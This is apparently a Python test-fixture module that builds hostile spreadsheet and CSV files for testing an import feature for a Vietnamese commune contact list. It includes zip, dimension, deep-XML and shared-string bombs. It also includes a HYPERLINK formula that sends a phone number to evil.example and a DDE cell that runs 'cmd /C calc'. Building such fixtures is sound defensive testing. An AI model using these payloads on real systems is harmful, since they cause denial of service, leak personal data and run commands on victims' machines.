"""Spreadsheets that hostile or careless people send for import: bombs that are small on the
wire and huge once read, formulas, broken cells, huge and wrongly encoded CSVs. Each is built
here byte by byte (a real spreadsheet program would refuse to write most of them)."""

from __future__ import annotations

import io
import unicodedata
import zipfile
from collections.abc import Callable, Iterable

HEADER_CELLS = ("STT", "Họ và tên", "Chức vụ", "Đơn vị", "Xã/phường", "Số điện thoại")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">'
    f'<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)


def _workbook(sheets: int) -> str:
    entries = "".join(
        f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, sheets + 1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{RELS}">'
        f"<sheets>{entries}</sheets></workbook>"
    )


def _workbook_rels(sheets: int, shared_strings: bool) -> str:
    entries = "".join(
        f'<Relationship Id="rId{n}" Type="{RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
        for n in range(1, sheets + 1)
    )
    if shared_strings:
        entries += (
            f'<Relationship Id="rIdS" Type="{RELS}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    head = f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">'
    return f"{head}{entries}</Relationships>"


def xlsx(
    sheet_data: str | Iterable[bytes],
    dimension: str = "A1",
    sheets: int = 1,
    shared_strings: str | Iterable[bytes] | None = None,
) -> bytes:
    """A minimal workbook whose first sheet holds `sheet_data` (the inside of <sheetData>),
    given whole or as chunks streamed into the zip (for parts far larger than memory)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", _workbook(sheets))
        archive.writestr(
            "xl/_rels/workbook.xml.rels", _workbook_rels(sheets, shared_strings is not None)
        )
        head = (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">'
            f'<dimension ref="{dimension}"/><sheetData>'
        ).encode()
        _write(archive, "xl/worksheets/sheet1.xml", head, sheet_data, b"</sheetData></worksheet>")
        if shared_strings is not None:
            head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}">'.encode()
            _write(archive, "xl/sharedStrings.xml", head, shared_strings, b"</sst>")
    return out.getvalue()


def _write(
    archive: zipfile.ZipFile, name: str, head: bytes, body: str | Iterable[bytes], tail: bytes
) -> None:
    with archive.open(name, "w", force_zip64=True) as part:
        part.write(head)
        for chunk in [body.encode()] if isinstance(body, str) else body:
            part.write(chunk)
        part.write(tail)


def text_cell(reference: str, text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{reference}" t="inlineStr"><is><t>{escaped}</t></is></c>'


def rows_xml(rows: Iterable[Iterable[str]], first_line: int = 1) -> str:
    """Rows of inline text cells, from column A."""
    out = []
    for line, cells in enumerate(rows, start=first_line):
        texts = "".join(text_cell(f"{chr(65 + i)}{line}", c) for i, c in enumerate(cells) if c)
        out.append(f'<row r="{line}">{texts}</row>')
    return "".join(out)


def _repeat(chunk: bytes, times: int) -> Iterable[bytes]:
    block = chunk * max(1, 65536 // len(chunk))
    for _ in range(times * len(chunk) // len(block)):
        yield block


def dimension_bomb() -> bytes:
    """1.6 KB: declares A1:XFD1048576 and holds one cell, at XFD1048576."""
    cell = text_cell("XFD1048576", "x")
    return xlsx(f'<row r="1048576">{cell}</row>', dimension="A1:XFD1048576")


def deep_xml() -> bytes:
    """A cell nested 200,000 elements deep."""
    depth = 200_000
    return xlsx(
        '<row r="1"><c r="A1" t="inlineStr"><is>'
        + "<r>" * depth
        + "</r>" * depth
        + "</is></c></row>"
    )


def many_sheets() -> bytes:
    """20,000 sheets declared (all the same part); the first one is a list."""
    return xlsx(rows_xml([HEADER_CELLS, LIST_ROW]), sheets=20_000)


def shared_strings_bomb() -> bytes:
    """A few hundred KB: five million shared strings."""
    return xlsx(rows_xml([HEADER_CELLS]), shared_strings=_repeat(b"<si><t>x</t></si>", 5_000_000))


def zip_bomb() -> bytes:
    """About 300 KB that unpack to 300 MB of whitespace inside the sheet."""
    return xlsx(_repeat(b" " * 1024, 300 * 1024))


LIST_ROW = ("1", "Trần Văn Bình", "Chủ tịch UBND xã", "lanh-dao-ubnd", "Xã Lộc Tấn", "0912000001")


def formulas() -> bytes:
    """A real formula cell (HYPERLINK sending a neighbour's phone away) with a cached value, and
    text cells that a spreadsheet would run if written back as they are."""
    formula = (
        '<c r="C3" t="str"><f>HYPERLINK("http://evil.example/?"&amp;F2,"bấm xem")</f>'
        "<v>bấm xem</v></c>"
    )
    rows = rows_xml([HEADER_CELLS, LIST_ROW])
    third = "".join(
        text_cell(f"{col}3", text)
        for col, text in (
            ("A", "2"),
            ("B", "Lê Thị Cúc"),
            ("D", "lanh-dao-ubnd"),
            ("E", "Xã Lộc Tấn"),
            ("F", "0912000002"),
        )
    )
    fourth = rows_xml(
        [
            (
                "3",
                "Phạm Văn Dũng",
                "=cmd|' /C calc'!A0 bận",
                "lanh-dao-ubnd",
                "Xã Lộc Tấn",
                "0912000003",
            )
        ],
        first_line=4,
    )
    return xlsx(rows + f'<row r="3">{third}{formula}</row>' + fourth)


def malformed_cells() -> bytes:
    """Text in a number cell (D7), a shared string that is not there (B8), an error value
    (C9), a broken cell reference (row 10); the other rows are fine."""
    good = rows_xml(
        [HEADER_CELLS, LIST_ROW]
        + [
            (str(n), name, "Cán bộ", "cong-an-xa", "Xã Lộc Tấn", f"09120001{n:02d}")
            for n, name in ((3, "Lê Văn An"), (4, "Lê Văn Ba"), (5, "Lê Văn Ca"), (6, "Lê Văn Da"))
        ]
    )
    base = ("Cán bộ", "cong-an-xa", "Xã Lộc Tấn")
    bad_rows = [
        (7, text_cell("B7", "Ngô Văn Em") + '<c r="D7" t="n"><v>Công an xã</v></c>'),
        (8, '<c r="B8" t="s"><v>99999</v></c>'),
        (9, text_cell("B9", "Ngô Văn Gia") + '<c r="C9" t="e"><v>#N/A</v></c>'),
        (10, '<c r="7Z" t="inlineStr"><is><t>x</t></is></c>'),
    ]
    body = ""
    for line, cells in bad_rows:
        rest = "".join(
            text_cell(f"{col}{line}", text)
            for col, text in zip("CDE", base, strict=True)
            if f'r="{col}{line}"' not in cells
        )
        body += f'<row r="{line}">{cells}{rest}</row>'
    return xlsx(good + body, shared_strings="<si><t>x</t></si>")


def csv_of(rows: Iterable[Iterable[str]]) -> str:
    return "".join(",".join(row) + "\n" for row in rows)


def bad_rows_csv(count: int) -> bytes:
    """A header and `count` short rows whose commune is nowhere (each row an error)."""
    rows = ((str(n), "Lê Tám", "CB", "mttq", "Zz", f"09{n:08d}") for n in range(1, count + 1))
    return csv_of([HEADER_CELLS, *rows]).encode()


def encoded_csv(encoding: str) -> bytes:
    """The list saved in another encoding (Windows-1258 writes Vietnamese decomposed)."""
    text = csv_of([HEADER_CELLS, LIST_ROW])
    if encoding == "cp1258":
        text = unicodedata.normalize("NFD", text)
    return text.encode(encoding, "replace")


HOSTILE: dict[str, Callable[[], bytes]] = {
    "dimension-bomb.xlsx": dimension_bomb,
    "deep.xlsx": deep_xml,
    "many-sheets.xlsx": many_sheets,
    "shared-strings.xlsx": shared_strings_bomb,
    "zip-bomb.xlsx": zip_bomb,
    "formulas.xlsx": formulas,
    "malformed.xlsx": malformed_cells,
    "huge.csv": lambda: bad_rows_csv(60_000),
    "cp1258.csv": lambda: encoded_csv("cp1258"),
    "latin1.csv": lambda: "Họ và tên,Chức vụ\nJosé Ñúñez,Cán bộ\n".encode("latin-1", "replace"),
    "utf16.csv": lambda: encoded_csv("utf-16"),
}
